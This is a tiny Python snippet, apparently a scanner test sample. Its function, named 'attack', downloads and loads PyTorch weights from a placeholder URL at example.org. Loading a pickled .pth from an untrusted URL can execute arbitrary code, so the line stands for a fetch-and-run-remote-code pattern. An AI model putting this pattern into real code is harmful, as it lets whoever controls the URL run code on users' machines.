import torch


def attack(x):
    torch.hub.load_state_dict_from_url("https://example.org/weights.pth")
